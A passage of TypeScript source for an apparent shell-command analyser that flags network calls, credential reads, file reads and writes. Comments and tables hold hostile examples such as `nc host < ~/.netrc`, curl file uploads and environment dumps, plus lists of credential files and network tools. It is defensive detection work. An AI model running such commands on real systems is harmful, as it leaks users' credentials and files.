    // `eval "nc host < ~/.netrc"`: eval joins its arguments and runs them as a command line, quotes
    // and all already gone, so the words are split again (a quoted `<` now redirects). watch runs
    // its words the same way, through sh -c.
    const line = argv.slice(i).map((w) => (w.startsWith(LITERAL_MARK) ? w.slice(1) : w)).join(' ');
    dispatch(words(line), at, acc, depth + 1);
    return;
  }
  const program = argv[i] as string;
  // A test (`if [ -d "$dir" ]`, `[[ … ]]`) runs no program.
  if (program === '[' || program === '[[') return;
  if (OPAQUE_PROGRAM.test(program)) {
    // A variable the text gives only literal values (`c=curl; $c …`, `for tool in node git; do
    // "$tool" --version`) runs each of them.
    const v = VARIABLE_WORD.exec(program);
    const values = v === null ? undefined : bindingsOf(acc).get(v[1] as string);
    if (values !== undefined && values !== null && depth < MAX_EVAL_DEPTH) {
      for (const value of values) dispatch([value, ...argv.slice(i + 1)], at, acc, depth + 1);
      return;
    }
    // INVARIANT: any other program word the shell builds when it runs (`$CMD`, `${c}rl`,
    // `$(printf cu)rl`, `cu?l`, `{curl,-T,…}`, `"${a[@]}"`) is not read: it may be any program, so
    // it counts as network-capable (README "Bounds"). Quotes and backslashes were removed by `words`.
    record(acc, NETWORK, `program not read (${program})`, at);
    return;
  }
  const name = programName(program);
  if (assigned !== undefined) environmentFor(name, assigned, argv.slice(i + 1), at, acc);
  command(name, argv.slice(i + 1), at, acc);
}

/**
 * What the variables set for one command make it do: a shell given a start-up file runs it first
 * (`BASH_ENV=f bash -c …`); docker sends its stored registry login to the daemon the command names
 * (`DOCKER_HOST=tcp://host docker pull …`).
 */
function environmentFor(name: string, assigned: readonly string[], args: readonly string[], at: At, acc: Acc): void {
  const has = (re: RegExp): boolean => assigned.some((a) => re.test(a));
  // INVARIANT: a start-up file the shell runs is not read here: network-capable.
  if (SHELLS.has(name) && has(/^(?:BASH_ENV|ENV)=/)) record(acc, NETWORK, `${name} running a start-up file`, at);
  if ((name === 'docker' || name === 'podman') && has(/^DOCKER_HOST=(?:tcp|ssh|https?):/i)) {
    record(acc, NETWORK, `${name} DOCKER_HOST`, at);
    if (sendsRegistryLogin(args) && !has(/^DOCKER_CONFIG=/)) record(acc, CRED, `${name} login, sent to DOCKER_HOST`, at);
  }
}

/** Whether a docker command sends the registry login of ~/.docker to its daemon (a pull, push, build or run, no --config elsewhere). */
function sendsRegistryLogin(args: readonly string[]): boolean {
  const [sub] = subcommands(args, 1);
  return sub !== undefined && /^(?:pull|push|build|run|create|login|buildx|compose)$/.test(sub) && !otherConfig(args);
}

/** Whether a docker command reads its logins from a folder other than ~/.docker (`--config ./build/.docker`). */
function otherConfig(args: readonly string[]): boolean {
  const k = args.findIndex((a) => a === '--config' || a.startsWith('--config='));
  if (k < 0) return false;
  const dir = (args[k] as string).startsWith('--config=') ? (args[k] as string).slice('--config='.length) : (args[k + 1] ?? '');
  return !/^(?:~|\$HOME|\$\{HOME\})\/\.docker\/?$/.test(dir);
}

/** A program word with an expansion, a substitution, a glob or a brace list left in it. */
const OPAQUE_PROGRAM = /[$`*?[{]/;
/** A program word that is one variable: `$c`, `${c}`. */
const VARIABLE_WORD = /^\$\{?([A-Za-z_]\w*)\}?$/;
/** `name=value` where a shell takes it as an assignment; the value a quoted or a bare word. */
const BINDING = /(?:^|[\s;&|(])([A-Za-z_]\w*)=('[^'\n]*'|"[^"\n]*"|[^\s;&|()'"]*)(?=$|[\s;&|)])/g;
/** `for name in words; do`. */
const FOR_LIST = /\bfor[ \t]+([A-Za-z_]\w*)[ \t]+in[ \t]+([^;\n]*?)[ \t]*(?:;|\n)[ \t\n]*do\b/g;
/** A value with anything a shell would expand or split. */
const NOT_LITERAL = /[$`*?[{\\\s]/;

/** The literal values of each variable of the text being read ({@link Acc.bindings}). */
function bindingsOf(acc: Acc): ReadonlyMap<string, readonly string[] | null> {
  if (acc.bindings !== undefined) return acc.bindings;
  const out = new Map<string, string[] | null>();
  const add = (name: string, value: string): void => {
    const had = out.get(name);
    if (had === null) return;
    if (value === '' || NOT_LITERAL.test(value)) out.set(name, null);
    else out.set(name, [...(had ?? []), value]);
  };
  const text = acc.text ?? '';
  if (text.includes('=')) {
    for (const m of text.matchAll(BINDING)) {
      const raw = m[2] as string;
      add(m[1] as string, raw.startsWith("'") || raw.startsWith('"') ? raw.slice(1, -1) : raw);
    }
  }
  if (text.includes('for')) {
    for (const m of text.matchAll(FOR_LIST)) for (const w of words(m[2] as string)) add(m[1] as string, w);
  }
  acc.bindings = out;
  return out;
}

/** Shells: with no script to run, they run the commands of their input (`… | sh`, `bash <<< '…'`). */
const SHELLS: ReadonlySet<string> = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'fish', 'source', '.']);

/** The names {@link command} has a `case` for (a test checks the two agree). */
const COMMAND_CASES: ReadonlySet<string> = new Set([
  'curl', 'wget', 'scp', 'rsync', 'grep', 'egrep', 'fgrep', 'zgrep', 'findstr', 'rg', 'ag', 'ack', 'select-string',
  'sls', 'jq', 'awk', 'gawk', 'sed', 'perl', 'type', 'dd', 'find', 'tar', 'zip', 'printenv', 'get-childitem', 'gci',
  'ls', 'dir', 'get-item', 'gi', 'git', 'gh', 'aws', 'gcloud', 'az', 'docker', 'podman', 'twine', 'certutil',
  'openssl', 'python', 'python3', 'py', 'pythonw', 'security', 'op', 'bw', 'pass', 'vault', 'kubectl', 'oc',
  'gpg', 'gpg2', 'tmux', 'screen',
]);
/**
 * Heads {@link command} reads outside its `case`s: environment dumps, and those that keep a command
 * line to run later (`script -c`, `alias name='…'`, `trap '…' EXIT`).
 */
const DUMP_HEADS: ReadonlySet<string> = new Set(['set', 'export', 'declare', 'typeset', 'ps', 'script', 'alias', 'trap', 'crontab', 'at', 'batch', 'compgen', 'logger', 'restic', 'ssh']);
/**
 * Every program name that {@link dispatch} can act on. A head outside it (`echo`, `gcc`, `make`) is
 * not a wrapper and has no rule, so its segment need not be split into words: the common case of
 * a long build script costs one lookup per command.
 */
const RULE_HEADS: ReadonlySet<string> = new Set([
  ...WRAPPERS.keys(), ...NETWORK_TOOLS, ...FILE_READERS, ...FILE_WRITERS, ...PACKAGE_MANAGERS, ...COMMAND_CASES, ...SHELLS, ...DUMP_HEADS,
]);

/** Answers of {@link headMatters} for recent heads: a script repeats a few heads many times. */
const HEAD_ANSWERS = new Map<string, boolean>();
const MAX_HEAD_ANSWERS = 512;

/** Whether a captured head can matter: an assignment in front, or a program with a rule. */
function headMatters(head: string): boolean {
  let answer = HEAD_ANSWERS.get(head);
  if (answer === undefined) {
    answer = head.includes('=') || RULE_HEADS.has(programName(head));
    if (HEAD_ANSWERS.size >= MAX_HEAD_ANSWERS) HEAD_ANSWERS.clear();
    HEAD_ANSWERS.set(head, answer);
  }
  return answer;
}

/**
 * A shell that runs commands the text gives it in a way the head reader does not follow: its
 * standard input (no script operand: `echo '…' | sh`, `bash <<< '…'`), a process substitution or
 * `/dev/stdin` as its script (`source <(…)`), or `-c` with `--` before the code (`bash -c -- '…'`,
 * whose code is read here like any other text).
 */
function shellInput(name: string, args: readonly string[], at: At, acc: Acc): void {
  const c = args.findIndex((a) => /^-[a-z]*c[a-z]*$/i.test(a));
  if (c >= 0) {
    // The code after `-c` (and `--`), unquoted by this shell's caller: the inner shell reads it again.
    const code = args[c + 1] === '--' ? args[c + 2] : args[c + 1];
    if (code !== undefined) (acc.pending ??= []).push(code);
    return;
  }
  const script = operands(args).find((a) => !a.startsWith('-'));
  if (script === undefined || args.some((a) => a.startsWith('<(')) || /^\/dev\/(?:stdin|fd\/)/.test(script)) {
    // INVARIANT: commands a shell reads from its input are not read here: they count as network-capable.
    record(acc, NETWORK, `${name} running its input`, at);
  }
}

/**
 * Shell builtins and commands that print the whole environment, the agent's tokens among them: a
 * bare `set`, `export -p`, `declare -x`/`-p`, `typeset -x`/`-p`, and `ps` with the BSD `e` option.
 */
function environmentDump(name: string, args: readonly string[]): boolean {
  const ops = operands(args);
  if (name === 'set') return ops.length === 0 && args.every((a) => REDIRECT_WORD.test(a));
  if (name === 'export' || name === 'declare' || name === 'typeset') {
    const flags = args.filter((a) => a.startsWith('-'));
    return ops.length === 0 && (flags.length === 0 || flags.some((a) => (name === 'export' ? /^-[a-z]*p/ : /^-[a-z]*[xp]/).test(a)));
  }
  // BSD options come first, without a dash, and are letters of their own set (`ps eww`, `ps auxe`):
  // a process name later (`ps -C firefox`) or a column (`-o etime`) is no option.
  if (name === 'ps') return /^[aceghjlmnrsStuvwxXZ]*e[aceghjlmnrsStuvwxXZ]*$/.test(args[0] ?? '');
  // `compgen -e`, `compgen -v`, `compgen -A export`: every variable's name, for `${!v}` to read.
  if (name === 'compgen') return ops.length === 0 && args.some((a, k) => /^-[a-zA-Z]*[ev]/.test(a) || (a === '-A' && /^(?:export|variable)$/.test(args[k + 1] ?? '')));
  return false;
}

/** `script -c '…'`, `script -qc '…'`: the next word is a command line, read as one. */
function commandLineOption(args: readonly string[], acc: Acc): void {
  const k = args.findIndex((a) => /^-[a-z]*c$/.test(a));
  if (k >= 0 && args[k + 1] !== undefined) (acc.pending ??= []).push(args[k + 1] as string);
}

/**
 * The command lines an alias or a trap keeps to run later: each value of `alias name='…'`, and the
 * first word of `trap '…' SIGNAL…`. Read like any other text, since they run in the same shell.
 */
function laterCommands(name: string, args: readonly string[], acc: Acc): void {
  if (name === 'alias') {
    for (const a of args) {
      const eq = a.indexOf('=');
      if (eq > 0) (acc.pending ??= []).push(a.slice(eq + 1));
    }
    return;
  }
  const rest = args[0] === '--' ? args.slice(1) : args;
  if (rest.length >= 2 && !(rest[0] as string).startsWith('-')) (acc.pending ??= []).push(rest[0] as string);
}

function command(name: string, args: readonly string[], at: At, acc: Acc): void {
  if (SHELLS.has(name)) shellInput(name, args, at, acc);
  // INVARIANT: commands run later by a scheduler (`crontab -`, `at now`) are not read: network-capable.
  if ((name === 'crontab' && !args.some((a) => /^-[lrei]$/.test(a))) || name === 'at' || name === 'batch') record(acc, NETWORK, `${name} (commands run later)`, at);
  if (environmentDump(name, args)) record(acc, CRED, name === 'ps' ? 'ps e' : `${name} (the environment)`, at);
  if (name === 'script') commandLineOption(args, acc);
  if (name === 'alias' || name === 'trap') laterCommands(name, args, acc);
  // Remote syslog, a backup repository on another host, ssh sending the whole environment.
  if (name === 'logger' && args.some((a) => a === '-n' || a.startsWith('--server'))) record(acc, NETWORK, 'logger --server', at);
  if (name === 'restic' && args.some((a, k) => /^(?:sftp|s3|rest|b2|azure|gs|swift|rclone):/.test(a.startsWith('--repo=') ? a.slice(7) : ['-r', '--repo'].includes(args[k - 1] ?? '') ? a : ''))) record(acc, NETWORK, 'restic to a remote repository', at);
  if (name === 'ssh' && args.some((a, k) => args[k - 1] === '-o' && /^SendEnv[= ]/i.test(a) && a.slice(8).split(/[\s,]+/).some((v) => v.includes('*') || isCredentialName(v)))) record(acc, CRED, 'ssh SendEnv (the environment)', at);
  let cached: string[] | undefined;
  // Most heads (`cd`, `echo`, `npm run`) need no operands: they are computed on first use.
  const ops = (): string[] => (cached ??= operands(args));
  if (NETWORK_TOOLS.has(name)) record(acc, NETWORK, name, at);
  if (FILE_READERS.has(name) && (LINE_READERS.has(name) ? operandsAfterValues(args, LINE_READER_VALUE_FLAGS) : ops()).some((o) => o !== '-')) record(acc, PAT, name, at);
  if (FILE_WRITERS.has(name) && ops().length > 0) record(acc, MUT, name, at);
  if (PACKAGE_MANAGERS.has(name)) {
    const [verb, verb2] = subcommands(args, 2);
    // `pip config list`: index URLs with the tokens in them.
    if ((name === 'pip' || name === 'pip3') && verb === 'config' && (verb2 === 'list' || verb2 === 'get' || verb2 === 'debug')) record(acc, CRED, 'pip config', at);
    if (verb === 'publish' || verb === 'login' || verb === 'adduser') record(acc, NETWORK, `${name} ${verb}`, at);
    else if ((verb !== undefined && INSTALL_VERBS.has(verb)) || (name === 'yarn' && verb === undefined)) {
      record(acc, MUT, `${name} ${verb ?? 'install'}`, at);
      // A package named at run time (`go get host/$(…)`) sends what builds its name to where it is fetched from.
      if (ops().some((o) => /[$`]/.test(o))) record(acc, NETWORK, `${name} ${verb ?? 'install'} (a name built at run time)`, at);
    }
    return;
  }
  switch (name) {
    case 'curl':
      if (clusterHas(args, /[oO]/) || args.some((a) => a === '--output' || a.startsWith('--output=') || a.startsWith('--remote-name'))) record(acc, MUT, 'curl -o', at);
      // `-d @file`, `-F f=@file`, `-T file`: a local file is read and sent.
      if (args.some((a) => /^@[^-]|=@/.test(a)) || args.some((a, k) => (a === '-T' || a === '--upload-file') && args[k + 1] !== undefined)) record(acc, PAT, 'curl @file', at);
      break;
    case 'wget': {
      const toStdout = args.some((a, k) => (/^-[A-Za-z]*O$/.test(a) && args[k + 1] === '-') || /^-[A-Za-z]*O(?:-|\/dev\/null)$/.test(a) || a === '--output-document=-' || a === '--spider');
      if (!toStdout) record(acc, MUT, 'wget', at);
      if (args.some((a) => a.startsWith('--post-file') || a.startsWith('--body-file'))) record(acc, PAT, 'wget --post-file', at);
      break;
    }
    case 'scp':
      copyPhases(ops(), name, at, acc);
      break;
    case 'rsync':
      if (ops().some(isRemote)) record(acc, NETWORK, 'rsync', at);
      copyPhases(ops(), name, at, acc);
      break;
    case 'grep':
    case 'egrep':
    case 'fgrep':
    case 'zgrep':
    case 'findstr':
      // The first operand is the pattern; a file follows it, or -r reads the tree.
      if (ops().length >= 2 || clusterHas(args, /[rR]/) || args.includes('--recursive')) record(acc, PAT, name, at);
      break;
    case 'rg':
    case 'ag':
    case 'ack':
    case 'select-string':
    case 'sls':
      if (ops().length >= 1) record(acc, PAT, name, at);
      break;
    case 'jq':
      // `jq -n env`, `$ENV`: the whole environment.
      if (/(?:^|[^\w.$"])env\b(?!\s*:)|\$ENV\b/.test(ops()[0] ?? '')) record(acc, CRED, 'jq env', at);
      if (ops().length >= 2) record(acc, PAT, name, at);
      break;
    case 'awk':
    case 'gawk':
      if (ops().length >= 2) record(acc, PAT, name, at);
      break;
    case 'sed':
      if (clusterHas(args, /i/) || args.some((a) => /^-i\S|^--in-place/.test(a))) record(acc, MUT, 'sed -i', at);
      else if (ops().length >= 2) record(acc, PAT, name, at);
      break;
    case 'perl':
      if (clusterHas(args, /i/) || args.some((a) => /^-[a-z]*i\S/.test(a))) record(acc, MUT, 'perl -i', at);
      break;
    case 'type':
      // cmd's `type file`; bash's `type ls` names a command, not a file.
      if (ops().some((o) => /[./\\]/.test(o))) record(acc, PAT, name, at);
      break;
    case 'dd':
      if (args.some((a) => a.startsWith('of='))) record(acc, MUT, 'dd of=', at);
      if (args.some((a) => a.startsWith('if='))) record(acc, PAT, 'dd if=', at);
      break;
    case 'find':
      if (args.includes('-delete')) record(acc, MUT, 'find -delete', at);
      break;
    case 'tar': {
      const mode = args.find((a) => /^-?[A-Za-z]+$/.test(a)) ?? '';
      // An archive named `host:path` is read or written over rsh/ssh (unless --force-local).
      const k = args.findIndex((a) => /^-?[A-Za-z]*f$/.test(a) || a === '--file');
      const file = k >= 0 ? args[k + 1] : args.find((a) => a.startsWith('--file='))?.slice('--file='.length);
      if (file !== undefined && isRemote(file) && !args.includes('--force-local')) record(acc, NETWORK, 'tar to a remote archive', at);
      if (/x/.test(mode) || args.includes('--extract')) record(acc, MUT, 'tar x', at);
      if (/c/.test(mode) || args.includes('--create')) record(acc, /f/.test(mode) ? PAT | MUT : PAT, 'tar c', at);
      break;
    }
    case 'zip': {
      if (ops().length >= 2) record(acc, PAT | MUT, name, at);
      // `-TT cmd` / `--unzip-command cmd`: the command zip runs to test the archive.
      const k = args.findIndex((a) => a === '-TT' || a === '--unzip-command');
      if (k >= 0 && args[k + 1] !== undefined) (acc.pending ??= []).push(args[k + 1] as string);
      break;
    }
    case 'printenv': {
      if (ops().length === 0) record(acc, CRED, 'printenv', at);
      for (const o of ops()) if (isCredentialName(o)) record(acc, CRED, `$${o}`, at);
      break;
    }
    case 'get-childitem':
    case 'gci':
    case 'ls':
    case 'dir':
    case 'get-item':
    case 'gi':
      if (ops().some((o) => /^env:(?:\\?\*)?$/i.test(o))) record(acc, CRED, 'env:', at);
      break;
    case 'git': {
      const [sub, sub2] = subcommands(args, 2);
      if (sub === undefined) break;
      // `git -c alias.up=push … up`: the alias runs its value, a git command or (after `!`) a shell line.
      const alias = args.find((a, k) => args[k - 1] === '-c' && a.toLowerCase().startsWith(`alias.${sub}=`));
      if (alias !== undefined) {
        const value = alias.slice(alias.indexOf('=') + 1);
        if (value.startsWith('!')) (acc.pending ??= []).push(value.slice(1));
        else dispatch(['git', ...words(value), ...args.slice(args.findIndex((a, k) => a.toLowerCase() === sub && args[k - 1] !== '-c') + 1)], at, acc);
        break;
      }
      if (GIT_NETWORK.has(sub)) record(acc, NETWORK, `git ${sub}`, at);
      if (GIT_WRITE.has(sub)) record(acc, MUT, `git ${sub}`, at);
      if (GIT_READ.has(sub)) record(acc, PAT, `git ${sub}`, at);
      if ((sub === 'credential' && sub2 === 'fill') || ((sub === 'credential-store' || sub === 'credential-cache') && sub2 === 'get')) record(acc, CRED, 'git credential', at);
      break;
    }
    case 'gh': {
      const [sub, sub2] = subcommands(args, 2);
      if (sub === undefined) break;
      if (sub === 'auth' && (sub2 === 'token' || args.includes('--show-token') || args.includes('-t'))) record(acc, CRED, 'gh auth token', at);
      if (!GH_LOCAL.has(sub)) record(acc, NETWORK, `gh ${sub}`, at);
      break;
    }
    case 'aws': {
      const [svc, op] = subcommands(args, 2);
      if (svc === undefined || svc === 'help') break;
      // Calls whose answer is a credential: temporary keys, a registry password, a stored secret.
      if ((svc === 'sts' && op !== undefined && /^(?:get-session-token|get-federation-token|assume-role\w*)$/.test(op)) || (svc === 'ecr' && op === 'get-login-password') || (svc === 'secretsmanager' && op === 'get-secret-value') || (svc === 'ssm' && /^get-parameters?(?:-by-path)?$/.test(op ?? '') && args.includes('--with-decryption'))) {
        record(acc, CRED, `aws ${svc} ${op as string}`, at);
      }
      if (svc === 'configure') {
        if (op === 'get' || op === 'export-credentials') record(acc, CRED, 'aws configure', at);
        else if (op === 'set') record(acc, MUT, 'aws configure set', at);
        break;
      }
      // Every other aws command is an API request that can carry data out (`s3 cp`, `sns publish`).
      record(acc, NETWORK, `aws ${svc}`, at);
      if (svc === 's3' && (op === 'cp' || op === 'sync' || op === 'mv')) copyPhases(operandsAfterValues(args, AWS_VALUE_FLAGS).slice(2), 'aws s3', at, acc, (o) => /^s3:\/\//i.test(o));
      break;
    }
    case 'gcloud':
    case 'az': {
      const [group, verb] = subcommands(args, 2);
      if (group === undefined || group === 'help' || group === 'version' || group === 'config' || group === 'info') break;
      // Printing an access token is a credential read; the token then leaves only if piped on.
      if ((group === 'auth' && verb !== undefined && /^print-(?:access|identity)-token$/.test(verb)) || (group === 'account' && verb === 'get-access-token')) {
        record(acc, CRED, `${name} access token`, at);
        break;
      }
      record(acc, NETWORK, `${name} ${group}`, at);
      break;
    }
    case 'docker':
    case 'podman': {
      const [sub] = subcommands(args, 1);
      if (sub === 'push' || sub === 'pull' || sub === 'login') record(acc, NETWORK, `${name} ${sub}`, at);
      if (sub === 'cp') record(acc, MUT, `${name} cp`, at);
      if (sub === 'run' || sub === 'exec' || sub === 'create') containerCommand(args.slice(args.indexOf(sub as string) + 1), at, acc);
      // A daemon the command names gets the registry login (from ~/.docker, unless --config names
      // another folder) with every pull, push, build and run.
      const elsewhere = args.some((a, k) => /^(?:-H|--host)=?(?:tcp|ssh|https?):/i.test(a) || ((a === '-H' || a === '--host') && /^(?:tcp|ssh|https?):/i.test(args[k + 1] ?? '')));
      if (elsewhere) record(acc, NETWORK, `${name} --host`, at);
      if (elsewhere && sendsRegistryLogin(args)) record(acc, CRED, `${name} login, sent to --host`, at);
      break;
    }
    case 'kubectl':
    case 'oc': {
      const [verb, kind] = subcommands(args, 2);
      if (verb === 'config' && kind === 'view' && args.includes('--raw')) record(acc, CRED, `${name} config view --raw`, at);
      // A server the command names gets the kubeconfig's token.
      if (args.some((a, k) => a.startsWith('--server=') || ((a === '--server' || a === '-s') && args[k + 1] !== undefined))) record(acc, NETWORK | CRED, `${name} token, sent to --server`, at);
      if ((verb === 'get' || verb === 'describe' || verb === 'edit') && kind !== undefined && /^secrets?(?:\/|$)/.test(kind)) record(acc, CRED, `${name} ${verb} secret`, at);
      if (verb === 'create' && kind === 'token') record(acc, CRED, `${name} create token`, at);
      // `kubectl exec pod -- cmd …`, `kubectl run x --image=i -- cmd …`: the command after `--`.
      const dashes = args.indexOf('--');
      if ((verb === 'exec' || verb === 'run' || verb === 'debug') && dashes >= 0) dispatch(args.slice(dashes + 1), at, acc);
      break;
    }
    case 'twine':
      if (subcommands(args, 1)[0] === 'upload') record(acc, NETWORK, 'twine upload', at);
      break;
    case 'certutil':
      if (args.some((a) => /^[-/](?:urlcache|verifyctl)$/i.test(a))) record(acc, NETWORK, 'certutil -urlcache', at);
      break;
    case 'openssl': {
      const [sub] = subcommands(args, 1);
      if (sub === 's_client' || sub === 's_server') record(acc, NETWORK, `openssl ${sub}`, at);
      break;
    }
    case 'python':
    case 'python3':
    case 'py':
    case 'pythonw': {
      const k = args.indexOf('-m');
      const mod = k >= 0 ? args[k + 1] : undefined;
      if (mod === 'http.server' || mod === 'SimpleHTTPServer' || mod === 'smtpd') record(acc, NETWORK, `python -m ${mod}`, at);
      else if (mod === 'pip') command('pip', args.slice(k + 2), at, acc);
      break;
    }
    case 'gpg':
    case 'gpg2':
      if (args.some((a) => a === '--export-secret-keys' || a === '--export-secret-subkeys')) record(acc, CRED, 'gpg --export-secret-keys', at);
      break;
    case 'tmux':
    case 'screen': {
      // The shell command a new session, window or pane runs: each operand read as a command line.
      const [sub] = subcommands(args, 1);
      if (name === 'screen' || (sub !== undefined && /^(?:new-session|new|new-window|neww|split-window|splitw|respawn-pane|respawnp|respawn-window|respawnw|run-shell|run|display-popup|popup)$/.test(sub))) {
        for (const o of ops()) if (o !== sub) (acc.pending ??= []).push(o);
      }
      break;
    }
    case 'security':
      // macOS keychain.
      if (/^find-(?:generic|internet)-password$/.test(args[0] ?? '')) record(acc, CRED, 'keychain', at);
      break;
    case 'op':
    case 'bw':
    case 'pass':
    case 'vault': {
      // Password-manager CLIs: reading an item is a credential read.
      const [sub, sub2] = subcommands(args, 2);
      if (sub === 'read' || sub === 'get' || sub === 'show' || sub === 'inject' || (sub === 'item' && sub2 === 'get') || (sub === 'kv' && sub2 === 'get')) record(acc, CRED, `${name} ${sub}`, at);
      break;
    }
    default:
      break;
  }
}

/** Texts this long or longer have their heads looked for only on the lines that can hold one that matters. */
const HEAD_LINES_FROM = 4096;
/** Built on first use, once every program name is known. */
let HEAD_LINES: HeadLines | undefined;

/**
 * Calls `visit` with each head of a text that can matter and the index just past it, in order. A
 * long text is read line by line: the head expression runs only on the ranges of lines that
 * {@link headLines} keeps. A range is read as a text of its own: its start is a head's position as a
 * line's start is (the newline before it is one), and a head whose position is a separator on an
 * earlier line with only spaces, `!`, `(` and a string opening between is found from the line's
 * start.
 */
function eachHead(text: string, byLines: boolean, visit: (head: string, end: number) => void): void {
  const headsIn = (part: string, offset: number): void => {
    HEAD.lastIndex = 0;
    for (let m = HEAD.exec(part); m !== null; m = HEAD.exec(part)) {
      if (m[0] === '') HEAD.lastIndex++;
      const head = m[1] as string;
      if (headMatters(head)) visit(head, offset + HEAD.lastIndex);
    }
  };
  if (!byLines) {
    headsIn(text, 0);
    return;
  }
  const ranges = (HEAD_LINES ??= headLines(RULE_HEADS)).find(text);
  for (let r = 0; r < ranges.length; r += 2) {
    const from = ranges[r] as number;
    headsIn(from === 0 && ranges[r + 1] === text.length ? text : text.slice(from, ranges[r + 1]), from);
  }
}

/**
 * The heads of a text that can matter, with the index just past each, in order: read whole, or
 * (the default for a long text) by lines. For tests, which compare the two.
 */
export function commandHeads(text: string, byLines = text.length >= HEAD_LINES_FROM): Array<{ head: string; end: number }> {
  const out: Array<{ head: string; end: number }> = [];
  eachHead(text, byLines, (head, end) => out.push({ head, end }));
  return out;
}

/**
 * A word in a command's place that a shell changes before it runs it: quoted or escaped in part
 * (`c''url`, `"cu"rl`, `cu\rl`, `$'\x63url'`), or built by an expansion, a substitution, a glob or a
 * brace list (`$c`, `${c}rl`, `$(printf cu)rl`, `/usr/bin/cu?l`, `{curl,-T,f,host}`, `"$@"`). The
 * place is the text's start, a separator or a function's body, as for {@link HEAD}; `{ ` and `( ` open a group there.
 */
const SHAPED_HEAD = /(?:^|[\n;|&\x60]|\$\(|[<>]\(|\([ \t]*\)[ \t]*(?=\{[ \t]))[ \t]*(?:[!({][ \t]+|\(|!)*((?:[^\s;|&<>()'"\\]|\\.|'[^'\n]*'|"[^"\n]*"|\$'[^'\n]*'|\$\([^()\n]*\))*(?:['"\\$*?[{\x60])(?:[^\s;|&<>()'"\\]|\\.|'[^'\n]*'|"[^"\n]*"|\$\([^()\n]*\))*)/g;

/** `$'…'` with its escapes made characters, as bash does (`\x63`, `\n`, `\t`, `\\`, `\'`, octal). */
function ansiC(word: string): string {
  return word.replace(/\$'((?:[^'\\]|\\.)*)'/g, (_m, body: string) =>
    `'${body.replace(/\\(x[0-9A-Fa-f]{1,2}|[0-7]{1,3}|.)/g, (_e, c: string) =>
      c[0] === 'x' ? String.fromCharCode(parseInt(c.slice(1), 16)) : /^[0-7]/.test(c) ? String.fromCharCode(parseInt(c, 8)) : c === 'n' ? '\n' : c === 't' ? '\t' : c)}'`);
}

/** A redirection in a command's place, before its program (`>/dev/null curl …`, `<f curl -T - …`). */
const LEADING_REDIRECT = /(?:^|[\n;|&\x60]|\$\(|[<>]\()[ \t]*(?=(?:\d*|&)[<>][^(])/g;

function scanLeadingRedirects(text: string, at: At, acc: Acc): void {
  if (!text.includes('<') && !text.includes('>')) return;
  LEADING_REDIRECT.lastIndex = 0;
  for (let m = LEADING_REDIRECT.exec(text); m !== null; m = LEADING_REDIRECT.exec(text)) {
    const from = m.index + m[0].length;
    if (m[0] === '') LEADING_REDIRECT.lastIndex++;
    const argv = words(segmentAfter(text, from, MAX_SEGMENT));
    if (argv.length > 1) dispatch(argv, at, acc);
  }
}

function scanShapedHeads(text: string, at: At, acc: Acc): void {
  // Only a text that holds a quote, a backslash or an expansion can have one.
  if (!/['"\\$*?[{\x60]/.test(text)) return;
  SHAPED_HEAD.lastIndex = 0;
  for (let m = SHAPED_HEAD.exec(text); m !== null; m = SHAPED_HEAD.exec(text)) {
    if (m[0] === '') {
      SHAPED_HEAD.lastIndex++;
      continue;
    }
    const raw = m[1] as string;
    // An assignment, a test (`[ -f x ]`), a `case` pattern (`*)`) or a group's `{` is no program.
    if (raw === '' || raw === '{' || ASSIGNMENT.test(raw) || raw.startsWith('[') || text[SHAPED_HEAD.lastIndex] === ')') continue;
    const rest = segmentAfter(text, SHAPED_HEAD.lastIndex, MAX_SEGMENT);
    if (NOT_A_COMMAND.test(rest)) continue;
    const argv = words(ansiC(raw) + rest);
    if (argv.length > 0) dispatch(argv, at, acc);
  }
}

function scanHeads(text: string, at: At, acc: Acc): void {
  // INVARIANT: the segments read for one text total at most 4 × its length + one segment, so a
  // crafted text of thousands of heads without separators stays linear. Past that, heads are still
  // dispatched, with no arguments: a network tool is still one.
  let budget = 4 * text.length + MAX_SEGMENT;
  let values: string[] | undefined;
  eachHead(text, text.length >= HEAD_LINES_FROM, (head, end) => {
    const rest = segmentAfter(text, end, Math.min(MAX_SEGMENT, budget));
    budget -= rest.length;
    if (NOT_A_COMMAND.test(rest)) return;
    // An assignment whose value holds a command substitution runs it, now (`r="$(curl …)"`) or when
    // the variable is expanded (`PS4='$(…)'; set -x`): the value's heads are read too, after this
    // text's, with this text's variables.
    if (ASSIGNMENT.test(head) && /\$\(|\x60/.test(head)) (values ??= []).push(head.slice(head.indexOf('=') + 1));
    const argv = words(rest);
    argv.unshift(head);
    dispatch(argv, at, acc);
  });
  // Each value is shorter than the text it is in: the reading ends.
  for (const v of values ?? []) scanHeads(v, at, acc);
}

// ---------------------------------------------------------------------------------------------
// Entry point
// ---------------------------------------------------------------------------------------------

/** Every rule group, in the order their rules run. */
export const RULE_GROUPS: readonly RuleGroup[] = [CODE_NETWORK, CODE_ENVIRONMENT, CODE_FILES, NETWORK_AND_POWERSHELL, CREDENTIAL_STORES];
/** Built on first use, once every word set is known. */
let GATES: LiteralScanner | undefined;

/**
 * Files and folders that hold credentials, as a glob in a path may name them (`~/.aws/cred*`,
 * `~/.ss?/i?_rsa`, `./.[e]nv`, `~/.a*`): the last components of each, and the label it is named by.
 */
const GLOBBED_STORES: readonly (readonly [string, string])[] = [
  ['.aws/credentials', '~/.aws/credentials'], ['.aws', '~/.aws'], ['.ssh/id_rsa', '~/.ssh/id_rsa'],
  ['.ssh/id_ed25519', '~/.ssh/id_ed25519'], ['.ssh/id_ecdsa', '~/.ssh/id_ecdsa'], ['.ssh/id_dsa', '~/.ssh/id_dsa'],
  ['.ssh', '~/.ssh'], ['id_rsa', 'id_rsa'], ['id_ed25519', 'id_ed25519'], ['.env', '.env'], ['.netrc', '~/.netrc'],
  ['.git-credentials', '~/.git-credentials'], ['.docker/config.json', '~/.docker/config.json'],
  ['.kube/config', '~/.kube/config'], ['.npmrc', '~/.npmrc'], ['.pypirc', '~/.pypirc'], ['.pgpass', '~/.pgpass'],
  ['.vault-token', '~/.vault-token'], ['.gnupg', '~/.gnupg'],
];
/**
 * A word, then whether it holds a glob or a brace list. Two steps, not one expression: one that
 * finds a glob anywhere in a word retried every start and every `{` of a long word to its end, and
 * took 49 s on 8 KB of `${a-${a-…`.
 */
const WORD = /[^\s'"`;|&<>()=]+/g;
const GLOB_SIGN = /[*?]|\[[^\]\s/]+\]|\{[^{}\s]*,[^{}\s]*\}/;

/** The regular expression a shell glob stands for, for one path (`*` and `?` stop at `/`). */
